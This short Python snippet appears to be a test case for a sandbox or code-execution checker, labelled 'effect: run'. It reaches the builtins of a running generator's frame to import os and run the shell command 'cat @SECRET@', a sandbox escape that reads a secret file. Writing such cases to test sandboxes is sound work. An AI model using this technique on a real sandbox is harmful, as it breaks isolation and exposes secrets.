# A running generator has a frame.
# effect: run
def numbers():
    yield 1
running = numbers()
next(running)
running.gi_frame.f_builtins["__import__"]("os").system("cat @SECRET@")
